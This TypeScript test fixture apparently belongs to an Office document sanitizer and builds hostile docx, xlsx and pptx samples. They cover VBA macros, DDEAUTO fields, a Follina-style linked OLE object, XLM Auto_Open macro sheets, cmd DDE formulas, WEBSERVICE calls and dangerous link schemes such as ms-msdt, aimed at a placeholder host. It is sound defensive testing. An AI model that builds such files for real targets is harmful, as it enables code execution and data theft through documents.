import type { FindingKind, RefusalCode } from '../../../sanitizer/protocol.ts'
import {
  docx,
  type Extra,
  formulaRow,
  KEPT,
  MARKER,
  MS,
  officeType,
  paragraph,
  pptx,
  R,
  type Rel,
  run,
  sheetPart,
  sheetType,
  slideShape,
  slideType,
  text,
  wordExtra,
  wordPart,
  wordType,
  xlsx,
} from './office-package.ts'

/** Hostile Office files (threats §3.2–3.3), one row each: what is evil about it, and what disarming must report or refuse. */
export interface OfficeSample {
  readonly name: string
  readonly format: 'docx' | 'xlsx' | 'pptx'
  readonly bytes: Uint8Array
  readonly finds?: FindingKind
  readonly refused?: RefusalCode
}

const EVIL = `http://${MARKER}.example/x`
const DOC = 'word/document.xml'
const SHEET = 'xl/worksheets/sheet1.xml'
const SLIDE = 'ppt/slides/slide1.xml'
const blob = Buffer.from(`\xd0\xcf\x11\xe0 ${MARKER}`, 'latin1')
const external = (from: string, kind: string, target = EVIL, id = 'rIdE'): Rel => ({ from, id, type: R + kind, target, external: true })
const internal = (from: string, type: string, target: string, id = 'rIdI'): Rel => ({ from, id, type, target })
/** One more part with its relationship. */
const withPart = (from: string, type: string, path: string, contentType: string, content: string | Uint8Array, id = 'rIdI'): Extra => ({
  parts: [{ path, type: contentType, content }],
  rels: [internal(from, type, `/${path}`, id)],
})

const instr = (code: string): string => run(`<w:instrText xml:space="preserve">${code}</w:instrText>`)
const character = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
const field = (code: string, result = KEPT): string =>
  `${character('begin')}${code}${character('separate')}${text(result)}${character('end')}`
const evilField = field(instr(` DDEAUTO c:\\\\windows\\\\${MARKER} "/k"`))

const schemes = [
  `ms-msdt:/id PCWDiagnostic ${MARKER}`,
  `search-ms:query=${MARKER}`,
  `file:///c:/${MARKER}`,
  `\\\\${MARKER}\\share`,
  `javascript:${MARKER}`,
  `vbscript:${MARKER}`,
  `data:text/html,${MARKER}`,
  `ms-officecmd:${MARKER}`,
  `ms-word:ofe|u|http://${MARKER}`,
  `mhtml:http://${MARKER}!x`,
  `mk:@MSITStore:${MARKER}`,
  `its:${MARKER}`,
  `ldap://${MARKER}`,
  `smb://${MARKER}`,
  `shell:${MARKER}`,
  `ms-appinstaller:?source=${MARKER}`,
  `https://user@${MARKER}/`,
  `http://a/${MARKER}#!x\\y`,
  ` file://${MARKER}`,
  `FiLe:${MARKER}`,
  `//${MARKER}/x`,
  `https://${'a'.repeat(2100)}${MARKER}`,
]

const word = (name: string, finds: FindingKind | undefined, body: string, extra: Extra = {}): OfficeSample => ({
  name,
  format: 'docx',
  bytes: docx(body, extra),
  ...(finds && { finds }),
})
const sheet = (name: string, finds: FindingKind, ...args: Parameters<typeof xlsx>): OfficeSample => ({
  name,
  format: 'xlsx',
  bytes: xlsx(...args),
  finds,
})
const slide = (name: string, finds: FindingKind, ...args: Parameters<typeof pptx>): OfficeSample => ({
  name,
  format: 'pptx',
  bytes: pptx(...args),
  finds,
})
const join = (...extras: Extra[]): Extra => ({
  parts: extras.flatMap(({ parts = [] }) => parts),
  rels: extras.flatMap(({ rels = [] }) => rels),
})

const drawing = (inner: string): string =>
  paragraph(
    run(
      `<w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">${inner}</a:graphicData></a:graphic></wp:inline></w:drawing>`,
    ),
  )
const picture = (blip: string): string =>
  drawing(
    `<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${blip}/></pic:blipFill><pic:spPr/></pic:pic>`,
  )
const textbox = (inner: string): string =>
  paragraph(run(`<w:pict><v:shape id="s"><v:textbox><w:txbxContent>${paragraph(inner)}</w:txbxContent></v:textbox></v:shape></w:pict>`))
const alternate = (choice: string, fallback: string): string =>
  `<mc:AlternateContent><mc:Choice Requires="wps">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`

const vba = (from: string, folder: string): Extra =>
  withPart(from, `${MS}vbaProject`, `${folder}/vbaProject.bin`, 'application/vnd.ms-office.vbaProject', blob)
const oleObject = `<w:object><v:shape id="s"><v:imagedata r:id="rIdNone"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s" ObjectID="${MARKER}" r:id="rIdI"/></w:object>`
const oleFile = (from: string, folder: string): Extra =>
  withPart(from, `${R}oleObject`, `${folder}/embeddings/oleObject1.bin`, officeType('oleObject'), blob)

const wordSamples: readonly OfficeSample[] = [
  word('docm with vbaProject', 'macro', '', { ...vba(DOC, 'word'), mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  word('docx that hides a vbaProject', 'macro', '', vba(DOC, 'word')),
  word('vbaProject under word/media/a.jpg', 'macro', '', withPart(DOC, `${MS}vbaProject`, 'word/media/a.jpg', 'image/jpeg', blob)),
  word(
    'vbaProject as an image relationship',
    'unknown',
    picture('r:embed="rIdI"'),
    withPart(DOC, `${R}image`, 'word/media/a.jpg', 'image/jpeg', blob),
  ),
  word('vbaProject that nothing leads to', 'unknown', '', {
    parts: [{ path: 'word/vbaProject.bin', type: 'application/vnd.ms-office.vbaProject', content: blob }],
  }),
  word(
    'vbaData and key map',
    'macro',
    '',
    withPart(DOC, `${MS}wordVbaData`, 'word/vbaData.xml', 'application/vnd.ms-word.vbaData+xml', `<x>${MARKER}</x>`),
  ),
  word(
    'styles part that is a macro project',
    'unknown',
    '',
    withPart(DOC, `${R}styles`, 'word/styles.xml', 'application/vnd.ms-office.vbaProject', blob),
  ),
  word(
    'styles part with another root',
    'unknown',
    '',
    withPart(DOC, `${R}styles`, 'word/styles.xml', wordType('styles'), wordPart('document', `<w:body>${MARKER}</w:body>`)),
  ),
  word(
    'attached template',
    'attached-template',
    '',
    join(wordExtra('settings', 'settings', '<w:attachedTemplate r:id="rIdE"/>'), {
      rels: [external('word/settings1.xml', 'attachedTemplate')],
    }),
  ),
  word('attached template, Strict names', 'attached-template', '', {
    parts: [
      {
        path: 'word/settings1.xml',
        type: wordType('settings'),
        content: `<w:settings xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main" xmlns:r="http://purl.oclc.org/ooxml/officeDocument/relationships"><w:attachedTemplate r:id="rIdE"/></w:settings>`,
      },
    ],
    rels: [
      internal(DOC, 'http://purl.oclc.org/ooxml/officeDocument/relationships/settings', 'settings1.xml'),
      {
        from: 'word/settings1.xml',
        id: 'rIdE',
        type: 'http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate',
        target: EVIL,
        external: true,
      },
    ],
  }),
  word(
    'mail merge',
    'connection',
    '',
    join(
      wordExtra(
        'settings',
        'settings',
        `<w:mailMerge><w:connectString w:val="${MARKER}"/><w:query w:val="SELECT ${MARKER}"/></w:mailMerge>`,
      ),
      { rels: [external('word/settings1.xml', 'mailMergeSource')] },
    ),
  ),
  word(
    'document variables',
    'metadata',
    '',
    wordExtra('settings', 'settings', `<w:docVars><w:docVar w:name="x" w:val="${MARKER}"/></w:docVars>`),
  ),
  word(
    'save through XSLT',
    'external-relationship',
    '',
    join(wordExtra('settings', 'settings', '<w:saveThroughXslt r:id="rIdE"/>'), { rels: [external('word/settings1.xml', 'transform')] }),
  ),
  word('DDEAUTO field', 'dde', paragraph(evilField)),
  word('DDE split over runs', 'dde', paragraph(field(instr('D') + instr('D') + instr(`EAUTO ${MARKER}`)))),
  word(
    'DDE split over paragraphs',
    'dde',
    paragraph(character('begin') + instr('DD')) +
      paragraph(instr(`E ${MARKER}`) + character('separate')) +
      paragraph(text(KEPT) + character('end')),
  ),
  word('DDE code in w:t', 'dde', paragraph(field(text(`DDE ${MARKER}`)))),
  word('DDE code in delInstrText', 'dde', paragraph(field(run(`<w:delInstrText>DDE ${MARKER}</w:delInstrText>`)))),
  word('DDE built by a nested QUOTE', 'field', paragraph(field(`${field(instr(' QUOTE 68 68 69 '), 'DDE')}${instr(` ${MARKER}`)}`))),
  word('DDE inside a safe field', 'dde', paragraph(field(`${instr(' IF ')}${evilField}${instr(' = 1 ')}`))),
  word('DDE in fldSimple', 'dde', paragraph(`<w:fldSimple w:instr="DDEAUTO ${MARKER}">${text(KEPT)}</w:fldSimple>`)),
  word('DDE in a header', 'dde', '', wordExtra('header', 'hdr', paragraph(evilField))),
  word('DDE in a footer', 'dde', '', wordExtra('footer', 'ftr', paragraph(evilField))),
  word('DDE in a comment', 'dde', '', wordExtra('comments', 'comments', `<w:comment w:id="0">${paragraph(evilField)}</w:comment>`)),
  word('DDE in a footnote', 'dde', '', wordExtra('footnotes', 'footnotes', `<w:footnote w:id="2">${paragraph(evilField)}</w:footnote>`)),
  word('DDE in a text box', 'dde', textbox(evilField)),
  word('DDE in a glossary', 'dde', '', {
    parts: [
      {
        path: 'word/glossary/document.xml',
        type: wordType('document.glossary'),
        content: wordPart(
          'glossaryDocument',
          `<w:docParts><w:docPart><w:docPartBody>${paragraph(evilField)}</w:docPartBody></w:docPart></w:docParts>`,
        ),
      },
    ],
    rels: [internal(DOC, `${R}glossaryDocument`, 'glossary/document.xml')],
  }),
  word(
    'DDE in the Choice',
    'dde',
    paragraph(
      run(
        alternate(
          `<w:pict><v:shape id="a"><v:textbox><w:txbxContent>${paragraph(evilField)}</w:txbxContent></v:textbox></v:shape></w:pict>`,
          '<w:t>x</w:t>',
        ),
      ),
    ),
  ),
  word(
    'DDE in the Fallback',
    'dde',
    paragraph(
      run(
        alternate(
          '<w:t>x</w:t>',
          `<w:pict><v:shape id="a"><v:textbox><w:txbxContent>${paragraph(evilField)}</w:txbxContent></v:textbox></v:shape></w:pict>`,
        ),
      ),
    ),
  ),
  word('DDE in Strict names', 'dde', '', {
    parts: [
      {
        path: 'word/header1.xml',
        type: wordType('header'),
        content: `<q:hdr xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main"><q:p><q:fldSimple q:instr="DDE ${MARKER}"/></q:p></q:hdr>`,
      },
    ],
    rels: [internal(DOC, `${R}header`, 'header1.xml')],
  }),
  word('DDE in a deleted run', 'dde', paragraph(`<w:del w:id="1" w:author="x">${evilField}</w:del>`)),
  word('DDE in a table', 'dde', `<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>${paragraph(evilField)}</w:tc></w:tr></w:tbl>`),
  word('field that never ends', 'field', paragraph(character('begin') + instr(`PAGE ${MARKER}`))),
  word('code without a field', 'field', paragraph(instr(`DDE ${MARKER}`))),
  ...[
    'INCLUDEPICTURE',
    'INCLUDETEXT',
    'LINK',
    'EMBED',
    'IMPORT',
    'DATABASE',
    'MACROBUTTON',
    'GOTOBUTTON',
    'PRINT',
    'AUTOTEXT',
    'RD',
    'ADDIN',
    'HTMLActiveX',
    'CONTROL',
    'FILLIN',
    'ASK',
  ].map((name) => word(`${name} field`, 'field', paragraph(field(instr(` ${name} "\\\\\\\\${MARKER}\\\\x" \\d `))))),
  word('HYPERLINK field to a file', 'field', paragraph(field(instr(` HYPERLINK "file:///${MARKER}" `)))),
  word(
    'HYPERLINK field with a nested address',
    'field',
    paragraph(field(`${instr(' HYPERLINK "')}${field(instr(' PAGE '), MARKER)}${instr('" ')}`, 'x')),
  ),
  word(
    'field data',
    undefined,
    paragraph(
      run(`<w:fldChar w:fldCharType="begin"><w:fldData>${Buffer.from(MARKER).toString('base64')}</w:fldData></w:fldChar>`) +
        instr('PAGE') +
        character('separate') +
        text('1') +
        character('end'),
    ),
  ),
  word(
    'form field macros',
    'macro',
    paragraph(
      run(`<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="t"/><w:entryMacro w:val="${MARKER}"/></w:ffData></w:fldChar>`) +
        instr('FORMTEXT') +
        character('separate') +
        text(KEPT) +
        character('end'),
    ),
  ),
  word(
    'altChunk',
    'alternate-content',
    '<w:altChunk r:id="rIdI"/>',
    withPart(DOC, `${R}aFChunk`, 'word/chunk.html', 'text/html', `<script>${MARKER}</script>`),
  ),
  word('OLE package', 'ole-object', paragraph(run(oleObject)), oleFile(DOC, 'word')),
  word('linked OLE object (Follina)', 'ole-object', paragraph(run(oleObject.replace('Embed', 'Link'))), {
    rels: [external(DOC, 'oleObject', `${EVIL}!`, 'rIdI')],
  }),
  word(
    'embedded workbook',
    'embedded-file',
    '',
    withPart(DOC, `${R}package`, 'word/embeddings/a.xlsx', sheetType('sheet').replace('+xml', ''), blob),
  ),
  word(
    'ActiveX control',
    'activex',
    paragraph(run(`<w:control r:id="rIdI" w:name="${MARKER}"/>`)),
    withPart(DOC, `${R}control`, 'word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml', `<x>${MARKER}</x>`),
  ),
  word(
    'custom ribbon',
    'add-in',
    '',
    withPart('', `${MS}ui/extensibility`, 'customUI/customUI.xml', 'application/xml', `<customUI onLoad="${MARKER}"/>`),
  ),
  word(
    'web extension task pane',
    'add-in',
    '',
    withPart(
      '',
      'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
      'word/webextensions/taskpanes.xml',
      'application/vnd.ms-office.webextensiontaskpanes+xml',
      `<x>${MARKER}</x>`,
    ),
  ),
  word(
    'custom XML and VSTO properties',
    'custom-xml',
    '',
    join(
      withPart(DOC, `${R}customXml`, 'customXml/item1.xml', 'application/xml', `<x>${MARKER}</x>`),
      withPart(
        '',
        `${R}custom-properties`,
        'docProps/custom.xml',
        officeType('custom-properties+xml'),
        `<x>_AssemblyLocation ${MARKER}</x>`,
        'rIdC',
      ),
    ),
  ),
  word('external image', 'external-relationship', picture('r:link="rIdE"'), { rels: [external(DOC, 'image')] }),
  word('external image as an embed', 'external-relationship', picture('r:embed="rIdE"'), { rels: [external(DOC, 'image')] }),
  word(
    'VML image and link',
    'external-reference',
    paragraph(run(`<w:pict><v:shape id="s" href="${EVIL}" o:href="${EVIL}"><v:imagedata src="${EVIL}" r:href="rIdE"/></v:shape></w:pict>`)),
    { rels: [external(DOC, 'image')] },
  ),
  word(
    'VML gfxdata',
    'metadata',
    paragraph(run(`<w:pict><v:shape id="s" o:gfxdata="${Buffer.from(MARKER).toString('base64')}"/></w:pict>`)),
  ),
  word('VML style that fetches', 'unknown', paragraph(run(`<w:pict><v:shape id="s" style="background:url(${EVIL})"/></w:pict>`))),
  word(
    'frameset',
    'external-relationship',
    '',
    join(
      withPart(
        DOC,
        `${R}webSettings`,
        'word/webSettings.xml',
        wordType('webSettings'),
        wordPart('webSettings', '<w:frameset><w:frame><w:sourceFileName r:id="rIdE"/></w:frame></w:frameset>'),
      ),
      { rels: [external(DOC, 'frame')] },
    ),
  ),
  word('sub-document', 'external-reference', '<w:subDoc r:id="rIdE"/>', { rels: [external(DOC, 'subDocument')] }),
  word(
    'embedded font',
    'font',
    '',
    join(
      wordExtra('fontTable', 'fonts', '<w:font w:name="x"><w:embedRegular r:id="rIdI"/></w:font>'),
      withPart('word/fontTable1.xml', `${R}font`, 'word/fonts/font1.odttf', officeType('obfuscatedFont'), blob),
    ),
  ),
  word(
    'printer settings',
    'printer-settings',
    '',
    withPart(DOC, `${R}printerSettings`, 'word/printerSettings1.bin', officeType('printerSettings'), blob),
  ),
  word(
    'thumbnail',
    'thumbnail',
    '',
    withPart(
      '',
      'http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail',
      'docProps/thumbnail.jpeg',
      'image/jpeg',
      blob,
    ),
  ),
  word(
    'metadata',
    'metadata',
    '',
    withPart(
      '',
      'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties',
      'docProps/core.xml',
      'application/vnd.openxmlformats-package.core-properties+xml',
      `<x>${MARKER}</x>`,
    ),
  ),
  word('revision identifiers', 'metadata', `<w:p w:rsidR="${MARKER}">${text(KEPT)}</w:p>`),
  word(
    'signature',
    'signature',
    '',
    withPart(
      '',
      'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin',
      '_xmlsignatures/origin.sigs',
      'application/vnd.openxmlformats-package.digital-signature-origin',
      blob,
    ),
  ),
  word('unknown extension element', 'unknown', paragraph(`<e:evil xmlns:e="urn:evil">${MARKER}</e:evil>${text(KEPT)}`)),
  word(
    'data binding',
    'custom-xml',
    `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/${MARKER}" w:storeItemID="{x}"/></w:sdtPr><w:sdtContent>${paragraph(text(KEPT))}</w:sdtContent></w:sdt>`,
  ),
  word(
    'smart tag',
    'custom-xml',
    paragraph(
      `<w:smartTag w:uri="${EVIL}" w:element="x"><w:smartTagPr><w:attr w:name="${MARKER}" w:val="x"/></w:smartTagPr>${text(KEPT)}</w:smartTag>`,
    ),
  ),
  word('comments and instructions of XML', undefined, `<!-- ${MARKER} --><?mso-application ${MARKER}?>`),
  word(
    'SVG beside a picture',
    'unknown',
    picture('r:embed=""').replace(
      '<a:blip r:embed=""/>',
      `<a:blip r:embed=""><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><s:svgBlip xmlns:s="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdI"/></a:ext></a:extLst></a:blip>`,
    ),
    withPart(
      DOC,
      `${R}image`,
      'word/media/a.svg',
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${MARKER}</script></svg>`,
    ),
  ),
  word('EMF picture', 'unknown', picture('r:embed="rIdI"'), withPart(DOC, `${R}image`, 'word/media/a.emf', 'image/x-emf', blob)),
  ...schemes.map((target, index) =>
    word(`hyperlink ${index}: ${target.slice(0, 24)}`, 'unsafe-link', paragraph(`<w:hyperlink r:id="rIdE">${text(KEPT)}</w:hyperlink>`), {
      rels: [external(DOC, 'hyperlink', target.replaceAll('&', '&amp;').replaceAll('<', '&lt;'))],
    }),
  ),
  word('picture through the relationship of a safe link', undefined, picture('r:embed="rIdE"'), {
    rels: [external(DOC, 'hyperlink', EVIL.replace(MARKER, 'tracker'))],
  }),
  word('anchor with a scheme', 'unsafe-link', paragraph(`<w:hyperlink w:anchor="file://${MARKER}">${text(KEPT)}</w:hyperlink>`)),
]

const macroSheet = (type: string, contentType: string, name: string): Extra =>
  withPart(
    'xl/workbook.xml',
    type,
    'xl/macrosheets/sheet1.xml',
    contentType,
    sheetPart(name, `<sheetData><row r="1"><c r="A1"><f>EXEC("${MARKER}")</f></c></row></sheetData>`),
    'rId2',
  )

const sheetSamples: readonly OfficeSample[] = [
  sheet('xlsm with vbaProject', 'macro', '', {
    ...vba('xl/workbook.xml', 'xl'),
    mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
  }),
  sheet('XLM macro sheet', 'xlm-macro', '', {
    ...macroSheet(`${MS}xlMacrosheet`, 'application/vnd.ms-excel.macrosheet+xml', 'xm:macrosheet'),
    sheets: `<sheet name="${MARKER}" sheetId="2" state="veryHidden" r:id="rId2"/>`,
    book: `<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">${MARKER}!A1</definedName></definedNames>`,
  }),
  sheet('international macro sheet', 'xlm-macro', '', {
    ...macroSheet(`${MS}xlIntlMacrosheet`, 'application/vnd.ms-excel.intlmacrosheet+xml', 'xm:macrosheet'),
    sheets: `<sheet name="${MARKER}" sheetId="2" r:id="rId2"/>`,
  }),
  sheet('dialog sheet', 'xlm-macro', '', {
    ...macroSheet(`${R}dialogsheet`, sheetType('dialogsheet'), 'dialogsheet'),
    sheets: `<sheet name="${MARKER}" sheetId="2" r:id="rId2"/>`,
  }),
  sheet('macro sheet posing as a worksheet', 'unknown', '', {
    ...macroSheet(`${R}worksheet`, 'application/vnd.ms-excel.macrosheet+xml', 'xm:macrosheet'),
    sheets: `<sheet name="${MARKER}" sheetId="2" r:id="rId2"/>`,
  }),
  sheet('Auto_Open name', 'xlm-macro', '', { book: `<definedNames><definedName name="Auto_Open">${MARKER}</definedName></definedNames>` }),
  sheet('XLM function name', 'xlm-macro', '', {
    book: `<definedNames><definedName name="f" xlm="1" function="1">${MARKER}</definedName></definedNames>`,
  }),
  sheet('name that computes by WEBSERVICE', 'formula', '', {
    book: `<definedNames><definedName name="f">WEBSERVICE("${EVIL}")</definedName></definedNames>`,
  }),
  sheet('very hidden sheet', 'hidden-content', '', { state: '<sheet name="S2" sheetId="2" state="veryHidden" r:id="rId1"/>' }),
  sheet('external link with DDE', 'external-relationship', '', {
    ...withPart(
      'xl/workbook.xml',
      `${R}externalLink`,
      'xl/externalLinks/externalLink1.xml',
      sheetType('externalLink'),
      sheetPart('externalLink', `<ddeLink ddeService="cmd" ddeTopic="${MARKER}"/>`),
    ),
    book: '<externalReferences><externalReference r:id="rIdI"/></externalReferences>',
  }),
  sheet('DDE formula', 'dde', formulaRow(`cmd|'/c ${MARKER}'!A0`)),
  sheet('quoted DDE formula', 'dde', formulaRow(`'cmd|/c ${MARKER}'!A0`)),
  sheet('formula of another book', 'external-reference', formulaRow(`'\\\\${MARKER}\\[b.xlsx]S'!A1`)),
  sheet('formula of a linked book', 'external-reference', formulaRow(`[1]${MARKER.replaceAll('-', '')}!A1`)),
  ...[
    'WEBSERVICE',
    'FILTERXML',
    'RTD',
    'CALL',
    'REGISTER',
    'REGISTER.ID',
    'EXEC',
    '_xlfn.IMAGE',
    '_xlfn.STOCKHISTORY',
    '_xlfn._xlws.PY',
    'IMPORTDATA',
    '_xll.EVIL',
    '_xludf.EVIL',
    'CUBEVALUE',
    'SQL.REQUEST',
  ].map((name) => sheet(`function ${name}`, 'formula', formulaRow(`1+${name}("${MARKER}")`))),
  sheet('banned function between escaped brackets', 'formula', formulaRow(`Table1['[]+WEBSERVICE("${MARKER}")+Table1[']]`)),
  sheet('function with a space before its parenthesis', 'formula', formulaRow(`WEBSERVICE ("${MARKER}")`)),
  sheet(
    'banned function in a shared formula',
    'formula',
    `${formulaRow(`WEBSERVICE("${MARKER}")`, ' t="shared" ref="A2:A3" si="0"')}<row r="3"><c r="A3"><f t="shared" si="0"/><v>1</v></c></row>`,
  ),
  sheet('HYPERLINK to a share', 'formula', formulaRow(`HYPERLINK("\\\\${MARKER}\\x","y")`)),
  sheet('HYPERLINK that is computed', 'formula', formulaRow(`HYPERLINK("http://"&A1&"${MARKER}")`)),
  sheet('banned function in conditional formatting', 'formula', '', {
    after: `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("${MARKER}")</formula></cfRule></conditionalFormatting>`,
  }),
  sheet('banned function in data validation', 'formula', '', {
    after: `<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("${MARKER}")</formula1></dataValidation></dataValidations>`,
  }),
  sheet('banned function in an extension', 'formula', '', {
    after: `<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations count="1"><x14:dataValidation type="list"><x14:formula1><xm:f>WEBSERVICE("${MARKER}")</xm:f></x14:formula1><xm:sqref>A1</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>`,
  }),
  sheet(
    'connections',
    'connection',
    '',
    withPart(
      'xl/workbook.xml',
      `${R}connections`,
      'xl/connections.xml',
      sheetType('connections'),
      sheetPart('connections', `<connection id="1" name="${MARKER}"/>`),
    ),
  ),
  sheet(
    'query table',
    'connection',
    '',
    withPart(
      SHEET,
      `${R}queryTable`,
      'xl/queryTables/queryTable1.xml',
      sheetType('queryTable'),
      sheetPart('queryTable', `<x>${MARKER}</x>`),
    ),
  ),
  sheet(
    'Power Query mash-up',
    'custom-xml',
    '',
    withPart(
      'xl/workbook.xml',
      `${R}customXml`,
      'customXml/item1.xml',
      'application/xml',
      `<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">${Buffer.from(MARKER).toString('base64')}</DataMashup>`,
    ),
  ),
  sheet(
    'data model',
    'connection',
    '',
    withPart(
      'xl/workbook.xml',
      `${MS}powerPivotData`,
      'xl/model/item.data',
      'application/vnd.openxmlformats-officedocument.model+data',
      blob,
    ),
  ),
  sheet(
    'real-time data',
    'connection',
    '',
    withPart(
      'xl/workbook.xml',
      `${R}volatileDependencies`,
      'xl/volatileDependencies.xml',
      sheetType('volatileDependencies'),
      sheetPart('volTypes', `<x>${MARKER}</x>`),
    ),
  ),
  sheet('printer settings', 'printer-settings', '', {
    ...withPart(
      SHEET,
      `${R}printerSettings`,
      'xl/printerSettings/printerSettings1.bin',
      sheetType('printerSettings').replace('+xml', ''),
      blob,
    ),
    after: '<pageSetup r:id="rIdI"/>',
  }),
  sheet('OLE object', 'ole-object', '', {
    ...oleFile(SHEET, 'xl'),
    after: `<oleObjects><oleObject progId="${MARKER}" shapeId="1" r:id="rIdI"/></oleObjects>`,
  }),
  sheet('form control with a macro', 'activex', '', {
    ...withPart(SHEET, `${R}ctrlProp`, 'xl/ctrlProps/ctrlProp1.xml', 'application/vnd.ms-excel.controlproperties+xml', `<x>${MARKER}</x>`),
    after:
      '<mc:AlternateContent><mc:Choice Requires="x14"><controls><control shapeId="1" r:id="rIdI" name="b"/></controls></mc:Choice></mc:AlternateContent>',
  }),
  sheet('shape that runs a macro', 'macro', '', {
    ...withPart(
      SHEET,
      `${R}drawing`,
      'xl/drawings/drawing1.xml',
      officeType('drawing+xml'),
      `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:sp macro="[0]!${MARKER}"><xdr:nvSpPr><xdr:cNvPr id="1" name="b"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>`,
    ),
    after: '<drawing r:id="rIdI"/>',
  }),
  sheet('VML button with a macro', 'macro', '', {
    ...withPart(
      SHEET,
      `${R}vmlDrawing`,
      'xl/drawings/vmlDrawing1.vml',
      officeType('vmlDrawing'),
      `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="b"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!${MARKER}</x:FmlaMacro></x:ClientData></v:shape></xml>`,
    ),
    after: '<legacyDrawing r:id="rIdI"/>',
  }),
  sheet('hyperlink to a file', 'unsafe-link', '', {
    rels: [external(SHEET, 'hyperlink', `file:///${MARKER}`)],
    after: '<hyperlinks><hyperlink ref="A1" r:id="rIdE"/></hyperlinks>',
  }),
  sheet('hyperlink location with a scheme', 'unsafe-link', '', {
    after: `<hyperlinks><hyperlink ref="A1" location="javascript:${MARKER}"/></hyperlinks>`,
  }),
  sheet('chart over another book', 'external-reference', '', {
    ...join(
      withPart(
        SHEET,
        `${R}drawing`,
        'xl/drawings/drawing1.xml',
        officeType('drawing+xml'),
        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>',
      ),
      withPart(
        'xl/drawings/drawing1.xml',
        `${R}chart`,
        'xl/charts/chart1.xml',
        officeType('drawingml.chart+xml'),
        `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:f>'\\\\${MARKER}\\[x.xlsx]S'!A1</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart><c:externalData r:id="rIdE"/></c:chartSpace>`,
      ),
      { rels: [external('xl/charts/chart1.xml', 'oleObject')] },
    ),
    after: '<drawing r:id="rIdI"/>',
  }),
  sheet('absolute path of the author', 'unknown', '', {
    book: `<mc:AlternateContent><mc:Choice Requires="x15"><e:absPath xmlns:e="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" url="C:\\${MARKER}"/></mc:Choice></mc:AlternateContent><extLst><ext uri="{x}"><e:y xmlns:e="urn:e">${MARKER}</e:y></ext></extLst>`.replace(
      'Requires="x15"',
      'Requires="x14"',
    ),
  }),
]

const click = (attributes: string, tag = 'hlinkClick'): string => `<a:${tag} ${attributes}/>`
const actions = [
  'ppaction://program',
  `ppaction://macro?name=${MARKER}`,
  'ppaction://hlinkfile',
  'ppaction://ole?verb=0',
  'ppaction://media',
  'ppaction://hlinkpres?slideindex=1',
  `PPACTION://PROGRAM?${MARKER}`,
]
const timing = (node: string): string =>
  `<p:timing><p:tnLst><p:par><p:cTn id="1"><p:childTnLst>${node}</p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>`

const slideSamples: readonly OfficeSample[] = [
  slide('pptm with vbaProject', 'macro', '', {
    ...vba('ppt/presentation.xml', 'ppt'),
    mainType: 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
  }),
  slide('ppsm with vbaProject', 'macro', '', {
    ...vba('ppt/presentation.xml', 'ppt'),
    mainType: 'application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml',
  }),
  ...actions.map((action) =>
    slide(`action ${action.slice(0, 28)}`, 'unsafe-link', slideShape(click(`r:id="rIdE" action="${action}"`)), {
      rels: [external(SLIDE, 'hyperlink', `file:///${MARKER}`)],
    }),
  ),
  slide('hover action', 'unsafe-link', slideShape(click('r:id="rIdE" action="ppaction://program"', 'hlinkHover')), {
    rels: [external(SLIDE, 'hyperlink', `${MARKER}.exe`)],
  }),
  slide('hover on text', 'unsafe-link', slideShape('', click('r:id="rIdE"', 'hlinkMouseOver')), {
    rels: [external(SLIDE, 'hyperlink', `ms-msdt:${MARKER}`)],
  }),
  slide(
    'link with a sound',
    'multimedia',
    slideShape(`<a:hlinkClick r:id="" action="ppaction://noaction"><a:snd r:embed="rIdI" name="${MARKER}"/></a:hlinkClick>`),
    withPart(SLIDE, `${R}audio`, 'ppt/media/a.wav', 'audio/wav', blob),
  ),
  slide(
    'OLE verb in the timing',
    'action',
    '',
    {},
